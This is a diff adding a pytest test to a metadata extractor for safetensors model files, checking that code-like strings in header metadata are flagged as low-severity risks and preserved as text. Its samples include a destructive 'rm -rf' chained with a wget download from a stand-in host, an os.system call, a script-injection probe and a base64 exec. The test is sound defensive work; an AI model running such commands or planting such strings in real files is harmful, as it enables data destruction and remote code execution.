@@ -101,3 +101,23 @@ def test_index_is_claimed_for_the_format_of_its_shards(name, format_):
 @pytest.mark.parametrize("name", ["config.json", "index.json", "model.index.json", "model_index.json"])
 def test_other_json_is_not_claimed_as_an_index(name):
     assert WeightsIndexExtractor().claims(name, b"{") is None
+
+
+@pytest.mark.parametrize(
+    ("value", "risk"),
+    [
+        ("import os; os.system('echo pwned')", True),
+        ("<script>alert(1)</script>", True),
+        ("rm -rf /tmp/test && wget http://bad.example/script.sh", True),
+        ("import base64; exec(base64.b64decode('eA=='))", True),
+        ("Trained with the Adam optimiser; evaluates (well) on scripts.", False),
+        ("https://example.org/model", False),
+    ],
+)
+def test_text_that_looks_like_code_is_a_remark_and_kept_as_text(value, risk):
+    header = json.dumps({"__metadata__": {"note": value}}).encode()
+    extraction = SafetensorsExtractor().extract(
+        bytes_reader("m.safetensors", struct.pack("<Q", len(header)) + header)
+    )
+    assert [r.severity.name for r in extraction.risks] == (["INFO"] if risk else [])
+    assert [o.raw for o in extraction.observations if o.field == "extra.note"] == [value]
